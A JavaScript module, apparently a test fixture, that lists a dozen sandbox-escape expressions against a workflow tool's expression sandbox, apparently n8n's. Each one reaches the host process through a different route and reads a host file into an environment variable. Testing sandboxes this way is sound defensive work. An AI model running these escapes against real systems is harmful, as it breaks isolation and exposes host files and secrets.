/**
 * Loot taken with a process object that can do things (n8n hands out a harmless copy with the version alone).
 * `input.file` is a file of the host. A guest that gets out after its answer leaves the loot in the environment.
 */
const loot = `((host) => {
  if (typeof host.kill !== 'function') throw new Error('no process');
  const found = { version: host.version };
  try { found.file = host.getBuiltinModule('fs').readFileSync(input.file, 'utf8'); } catch (error) {}
  try { host.env.PADDOCK_LOOT = JSON.stringify(found); } catch (error) {}
  return found;
})`;

const later = (promise) => `(${promise}, 'later')`;
const FROM_SCRATCH = `('return process')()`;

/** Ways out by name; each is an expression. */
export const escapes = {
  'global process': `${loot}(process)`,
  require: `${loot}(require('process'))`,
  'function constructor': `${loot}((() => {}).constructor${FROM_SCRATCH})`,
  'computed constructor': `${loot}([]['con' + 'cat']['const' + 'ructor']${FROM_SCRATCH})`,
  'constructor of the input': `${loot}(input['constructor']['constructor']${FROM_SCRATCH})`,
  'constructor of this': `${loot}((function () { return this; })().constructor.constructor${FROM_SCRATCH})`,
  'generator constructor':
    `${loot}(Object.getPrototypeOf(function* () {}).constructor('yield process')().next().value)`,
  'stack overflow': `(() => {
    const dive = () => dive();
    try { dive(); } catch (error) { return ${loot}(error.constructor.constructor${FROM_SCRATCH}); }
  })()`,
  caller: `(function climb() {
    let frame = climb;
    while (frame.caller) frame = frame.caller;
    return ${loot}(frame.constructor${FROM_SCRATCH});
  })()`,
  'call sites': `(() => {
    Error.prepareStackTrace = (error, sites) => sites;
    for (const site of new Error().stack) {
      for (const way of [site.getThis(), site.getFunction()]) {
        try { return ${loot}(way.constructor.constructor${FROM_SCRATCH}); } catch (error) {}
      }
    }
    throw new Error('closed');
  })()`,
  import: later(`import('node:process').then((module) => ${loot}(module.default)).catch(() => {})`),
  'error of import': later(
    `import('x').catch((error) => ${loot}(error.constructor.constructor${FROM_SCRATCH})).catch(() => {})`,
  ),
};
